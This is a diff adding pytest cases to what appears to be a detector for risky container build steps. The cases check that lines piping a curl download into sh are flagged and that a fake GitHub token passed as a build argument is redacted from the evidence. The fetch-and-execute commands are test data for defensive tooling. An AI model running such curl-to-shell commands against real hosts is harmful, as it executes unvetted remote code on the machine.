@@ -111,3 +111,67 @@ def test_telling_steps(line: str, rule: str, severity: str) -> None:
 )
 def test_good_steps(line: str) -> None:
     assert judge(line) == []
+
+
+TOKEN = "ghp_" + "a1B2c3D4e5" * 4
+PIPED = "history/download-piped"
+
+
+@pytest.mark.parametrize(
+    ("line", "command", "shown"),
+    [
+        (
+            f"RUN |1 TOKEN={TOKEN} /bin/sh -c curl http://a.invalid/i | sh # buildkit",
+            "curl",
+            "RUN |1 TOKEN=… curl",
+        ),
+        (
+            f"|2 A=b TOKEN={TOKEN} /bin/bash -o pipefail -c curl http://a.invalid/i | sh",
+            "curl",
+            "|2 A=… TOKEN=… curl",
+        ),
+        (f"RUN |1 TOKEN={TOKEN} curl http://a.invalid/i | sh", "curl", "RUN |1 TOKEN=… curl"),
+        (
+            f"RUN --mount=type=cache |1 TOKEN={TOKEN} /bin/sh -c curl http://a.invalid/i | sh",
+            "curl",
+            "RUN --mount",
+        ),
+        (
+            f"RUN |2 NOTE=two words TOKEN={TOKEN} /bin/sh -c curl http://a.invalid/i | sh",
+            "curl",
+            "RUN |2 NOTE=… TOKEN",
+        ),
+        (f"RUN |1 NOTE=see {TOKEN} /bin/sh -c curl http://a.invalid/i | sh", "curl", "RUN |1 NOTE=… curl"),
+    ],
+)
+def test_build_arguments_are_no_part_of_the_command(line: str, command: str, shown: str) -> None:
+    (found,) = judge(line)
+    assert found.rule_id == PIPED
+    texts = [one.text for one in found.evidence]
+    assert texts[0].startswith(
+        f"step 1: hands a download to an interpreter: {command} http://a.invalid/i | sh"
+    )
+    assert texts[1].startswith(shown)
+    assert not [text for text in texts if "ghp_" in text]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "RUN |1 FETCH=curl /bin/sh -c sh -s < /opt/x",
+        "RUN |1 URL=http://a.invalid/i bash /opt/x",
+        "RUN |2 A=--allow-untrusted B=gpgcheck=0 /bin/sh -c make",
+        "RUN |1 A=x; /bin/sh -c make",
+        "RUN |9 A=b",
+        "RUN |1",
+        "RUN |0 /bin/sh -c make",
+        "|99999999999999999999 A=b make",
+    ],
+)
+def test_nothing_is_told_because_of_build_arguments(line: str) -> None:
+    assert judge(line) == []
+
+
+def test_a_bar_without_arguments_is_still_a_pipe() -> None:
+    (found,) = judge("RUN curl http://a.invalid/i |sh")
+    assert found.rule_id == PIPED
